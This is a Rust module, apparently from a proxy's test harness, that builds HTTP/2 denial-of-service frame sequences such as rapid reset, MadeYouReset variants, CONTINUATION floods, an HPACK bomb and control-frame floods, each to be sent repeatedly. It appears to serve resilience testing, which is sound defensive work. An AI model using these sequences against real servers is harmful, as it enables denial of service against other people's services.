//! The attacks: frames that are sent again and again.

use super::{
    frames::NEW,
    support::{harness::h2, proxy::HOST},
};

const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// A stream that stays open throughout.
pub const KEPT: u32 = 3;

/// What to wait for after each hundred rounds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Pace {
    /// Nothing: frames are sent as fast as the proxy reads.
    Flat,
    /// The acknowledgement of a PING.
    Ping,
    /// The end of all streams.
    Answers,
}

#[derive(Debug, Clone)]
pub struct Attack {
    pub name: &'static str,
    /// Sent once, after the preface, SETTINGS and a request that is served.
    pub first: Vec<u8>,
    /// Sent repeatedly, with a new stream instead of [`NEW`] each time.
    pub round: Vec<u8>,
    pub pace: Pace,
    /// Whether the attacker reads what the proxy sends.
    pub reads: bool,
}

pub fn attacks() -> Vec<Attack> {
    let get = h2::headers(NEW, &fields("GET", "/attack", &[]), true);
    let post = |more: &[(&'static str, &'static [u8])]| h2::headers(NEW, &fields("POST", "/attack", more), false);
    let reset = h2::frame(h2::RST_STREAM, 0, NEW, &CANCEL);
    let open_head = h2::frame(h2::HEADERS, 0, KEPT, &[]);
    let open_body = h2::headers(KEPT, &fields("POST", "/attack", &[]), false);
    let many_bytes = [post(&[]), h2::data(NEW, b"x", false).repeat(99), h2::data(NEW, b"x", true)].concat();
    // SETTINGS_INITIAL_WINDOW_SIZE.
    let no_window = h2::frame(h2::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let large: Vec<u8> =
        (1..=100).flat_map(|number| h2::headers(2 * number + 1, &fields("GET", "/size/1048576", &[]), true)).collect();
    let settings = h2::frame(h2::SETTINGS, 0, 0, &[]);
    let (flat, none) = (Pace::Flat, Vec::new);
    vec![
        attack("no attack: requests, 100 at a time", none(), get.clone(), Pace::Answers),
        attack("requests without waiting", none(), get.clone(), flat),
        attack("rapid reset", none(), [&*get, &reset].concat(), flat),
        attack("rapid reset, 100 and a PING", none(), [&*get, &reset].concat(), Pace::Ping),
        attack("reset during a body", none(), [&*post(&[]), &reset].concat(), flat),
        attack("MadeYouReset: window of 0", none(), [post(&[]), update(NEW, 0)].concat(), flat),
        attack("MadeYouReset: body after the end", none(), [get.clone(), h2::data(NEW, b"x", true)].concat(), flat),
        attack(
            "MadeYouReset: wrong length",
            none(),
            [post(&[("content-length", b"1")]), h2::data(NEW, b"xx", false)].concat(),
            flat,
        ),
        attack("malformed heads", none(), post(&[("connection", b"x")]), flat),
        attack("requests without an end", none(), post(&[]), flat),
        attack("CONTINUATION, empty", open_head.clone(), h2::frame(CONTINUATION, 0, KEPT, &[]), flat),
        attack("CONTINUATION with headers", open_head, h2::frame(CONTINUATION, 0, KEPT, &[0, 1, b'x', 1, b'y']), flat),
        attack("HPACK bomb", none(), bomb(), flat),
        attack("HPACK churn", none(), churn(), Pace::Answers),
        attack("PING", none(), h2::ping(1), flat),
        Attack { reads: false, ..attack("PING, replies not read", none(), h2::ping(1), flat) },
        attack("SETTINGS", none(), settings.clone(), flat),
        Attack { reads: false, ..attack("SETTINGS, replies not read", none(), settings, flat) },
        attack("WINDOW_UPDATE", none(), update(0, 1), flat),
        attack("PRIORITY", none(), h2::frame(2, 0, KEPT, &[0, 0, 0, 5, 1]), flat),
        attack("frames of an unknown kind", none(), h2::frame(99, 0, 0, &[0; 100]), flat),
        attack("empty DATA", open_body, h2::data(KEPT, b"", false), flat),
        attack("DATA of a byte", none(), many_bytes, Pace::Answers),
        attack("window of 0, 100 responses of 1 MiB", [no_window, large].concat(), none(), flat),
    ]
}

fn attack(name: &'static str, first: Vec<u8>, round: Vec<u8>, pace: Pace) -> Attack {
    Attack { name, first, round, pace, reads: true }
}

/// The headers of a request.
pub fn fields<'a>(method: &'a str, path: &'a str, more: &[(&'a str, &'a [u8])]) -> Vec<(&'a str, &'a [u8])> {
    let pseudo = [(":method", method), (":scheme", "http"), (":authority", HOST), (":path", path)];
    pseudo.into_iter().map(|(name, value)| (name, value.as_bytes())).chain(more.iter().copied()).collect()
}

fn update(stream: u32, by: u32) -> Vec<u8> {
    h2::frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes())
}

/// A GET whose header block continues with `block`.
fn with_block(block: &[u8]) -> Vec<u8> {
    let head = h2::headers(NEW, &fields("GET", "/attack", &[]), true);
    h2::frame(h2::HEADERS, head[4], NEW, &[&head[9..], block].concat())
}

/// A literal that is added to the dynamic table (RFC 7541, 6.2.1). Other literals differ in the first byte.
fn indexed(name: &str, value: &[u8]) -> Vec<u8> {
    let mut block = h2::headers(NEW, &[(name, value)], true)[9..].to_vec();
    block[0] = 0x40;
    block
}

/// A header of 4000 bytes, then 8000 one-byte references to it.
fn bomb() -> Vec<u8> {
    with_block(&[indexed("x", &[b'x'; 4000]), vec![0xbe; 8000]].concat())
}

/// Headers that evict each other from the table.
fn churn() -> Vec<u8> {
    with_block(&(0..50).flat_map(|number| indexed(&format!("x{number}"), &[b'x'; 200])).collect::<Vec<_>>())
}
